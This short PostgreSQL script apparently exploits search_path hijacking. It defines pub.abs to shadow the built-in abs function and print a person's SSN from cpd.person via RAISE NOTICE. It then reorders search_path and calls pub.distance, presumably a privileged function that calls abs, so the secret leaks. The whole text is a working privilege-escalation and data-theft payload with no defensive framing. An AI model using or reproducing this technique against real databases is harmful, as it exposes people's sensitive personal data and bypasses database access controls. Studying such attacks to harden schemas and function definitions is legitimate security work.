CREATE FUNCTION pub.abs(a integer) RETURNS integer LANGUAGE plpgsql AS
$$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM cpd.person WHERE id = 1); RETURN a; END $$;
SET search_path = pub, pg_catalog;
SELECT pub.distance(1);
